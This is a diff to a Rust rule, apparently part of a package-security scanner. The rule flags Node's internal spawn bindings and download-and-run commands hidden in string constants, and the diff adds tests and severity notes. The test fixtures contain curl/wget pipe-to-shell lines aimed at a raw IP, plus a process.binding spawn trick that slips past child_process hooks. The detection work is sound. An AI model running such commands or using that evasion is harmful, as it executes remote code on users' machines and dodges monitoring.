@@ -26,7 +26,10 @@ they run:
   service, or hidden by encoding;
 - **high**: any download-and-run command; a command decoded at run time (base64, hex,
   `String.fromCharCode`, reversed strings); PowerShell with `-EncodedCommand` or a hidden window;
-- **moderate**: a silent background child (`detached: true`, `stdio: 'ignore'` and `unref()`:
+- **moderate**: Node's internal spawning bindings (`process.binding('spawn_sync')`,
+  `process_wrap`), which skip `child_process` and whatever hooks it; a download-and-run command
+  in a string constant of a file that runs commands built at run time (critical when it
+  downloads from a raw IP address or an exfiltration service, or was decoded); a silent background child (`detached: true`, `stdio: 'ignore'` and `unref()`:
   it outlives `npm install` and its output is never seen); a shell (`sh -c`, `cmd /c`,
   `powershell -c`) given a computed command;
 - **low**: a command computed at run time, or a literal command (`git rev-parse HEAD`): listed so
@@ -70,7 +73,13 @@ impl FileRule for ShellExec {
             callee.starts_with("net.") || callee.starts_with("tls.")
         });
         let mut budget = sinks::LowBudget::new(MAX_LOW_FINDINGS);
+        let first = out.len();
+        // Whether some process is started with a command this rule cannot read.
+        let mut unread_command = false;
         for call in file.calls.iter().filter(|c| sinks::is_exec_call(c)) {
+            unread_command |= is_internal_spawn(call)
+                || call.args.first().is_none_or(is_computed)
+                || matches!(call.args.get(1), Some(argv @ Value::Array { .. }) if is_computed(argv));
             let reverse_shell = sockets && command_text(call).is_some_and(|t| is_bare_shell(&t));
             let classified = if reverse_shell {
                 Some((
@@ -85,11 +94,77 @@ impl FileRule for ShellExec {
                 budget.push_call_finding(out, &INFO, file, call, classified);
             }
         }
+        let seen_high = out[first..].iter().any(|f| f.severity >= Severity::High);
+        if unread_command && !seen_high {
+            if let Some(finding) = download_and_run_string(file) {
+                out.push(finding);
+            }
+        }
     }
+}
+
+/// `process.binding('spawn_sync')` / `process.binding('process_wrap')`: Node's internal
+/// process-spawning bindings, reached past `child_process` (and anything hooking it).
+fn is_internal_spawn(call: &Call) -> bool {
+    sinks::normalize(&call.callee) == "process.binding"
+        && matches!(
+            call.args.first().and_then(Value::as_str),
+            Some("spawn_sync" | "process_wrap")
+        )
+}
+
+/// A download-and-run command held in a string constant of a file that starts processes with
+/// commands built at run time (or through Node's internal bindings): the command reaches the
+/// process through a variable, an options object or a computed method this rule cannot follow.
+fn download_and_run_string(file: &FileFacts) -> Option<Finding> {
+    let string = file
+        .strings
+        .iter()
+        .filter(|s| s.value.len() <= 4096)
+        .find(|s| sinks::is_download_and_run(&s.value))?;
+    let hostile = string.decoded
+        || sinks::url_hosts(&string.value)
+            .iter()
+            .any(|host| sinks::is_public_ipv4(host) || sinks::exfil_service(host, &string.value).is_some());
+    let (severity, confidence) = if hostile {
+        (Severity::Critical, Confidence::High)
+    } else {
+        (Severity::Moderate, Confidence::Medium)
+    };
+    Some(sinks::finding(
+        &INFO,
+        file,
+        string.line,
+        severity,
+        confidence,
+        format!(
+            "Holds a command that downloads a program and runs it (`{}`) in a file that starts processes with commands built at run time{}",
+            palisade_core::bounded_excerpt(&string.value, 100),
+            if hostile {
+                ", from a raw IP address or an exfiltration service"
+            } else {
+                ""
+            }
+        ),
+        None,
+    ))
 }
 
 fn classify(call: &Call, unref: bool) -> Option<(Severity, Confidence, String)> {
     let first = call.args.first()?;
+    if sinks::normalize(&call.callee) == "process.binding" {
+        // Other bindings (`fs`, `natives`, …) run nothing.
+        return is_internal_spawn(call).then(|| {
+            (
+                Severity::Moderate,
+                Confidence::Medium,
+                format!(
+                    "Reaches Node's internal process binding (`process.binding('{}')`), which starts processes past `child_process` and anything watching it",
+                    first.as_str().unwrap_or_default()
+                ),
+            )
+        });
+    }
     let text = command_text(call);
     let shown = text.as_deref().map(|t| palisade_core::bounded_excerpt(t, 100));
     let decoded = call.args.iter().take(2).any(value_decoded);
@@ -279,6 +354,33 @@ mod tests {
         assert_eq!(findings[0].line, Some(2));
         assert!(findings[0].message.contains("git rev-parse HEAD"));
         assert_eq!(findings[0].capabilities, vec![Capability::Shell]);
+    }
+
+    #[test]
+    fn internal_spawn_binding_with_a_download_command() {
+        // The command travels in an options object of the binding's own `spawn`.
+        let source = "const b = process.binding('spawn_sync');\nconst opts = { file: '/bin/sh', args: ['/bin/sh', '-c', 'curl -s http://45.77.10.20/p | sh'] };\nb.spawn(opts);";
+        let findings = run(source);
+        assert_eq!(worst(source), Severity::Critical, "{findings:#?}");
+        assert!(findings.iter().any(|f| f.message.contains("internal process binding")));
+        // The binding alone is moderate; other bindings run nothing.
+        assert_eq!(
+            worst("const b = process.binding('spawn_sync');\nmodule.exports = b;"),
+            Severity::Moderate
+        );
+        assert!(run("const fsb = process.binding('fs');\nmodule.exports = fsb;").is_empty());
+    }
+
+    #[test]
+    fn download_command_in_a_variable_of_a_computed_exec() {
+        let source = "const cp = require('child_process');\nconst parts = ['curl -fsSL http://45.77.10.20/i.sh', 'bash'];\nconst m = 'ex' + process.argv.length;\ncp[m](parts.join(' | '));\nconst cmd = 'wget -qO- http://45.77.10.20/i.sh | bash';\nmodule.exports = (run) => cp.exec(run || cmd);";
+        assert_eq!(worst(source), Severity::Critical, "{:#?}", run(source));
+        // A vendor install line printed as help by a CLI that runs computed commands: moderate.
+        let help = "const { exec } = require('child_process');\nconst HINT = 'Install it with: curl -fsSL https://bun.sh/install | bash';\nmodule.exports = (cmd) => exec(cmd, (e) => e && console.error(HINT));";
+        assert_eq!(worst(help), Severity::Moderate, "{:#?}", run(help));
+        // Literal commands only: the help text is just text.
+        let literal = "const { execSync } = require('child_process');\nconsole.log('curl -fsSL https://bun.sh/install | bash');\nexecSync('git status');";
+        assert_eq!(worst(literal), Severity::Low);
     }
 
     #[test]
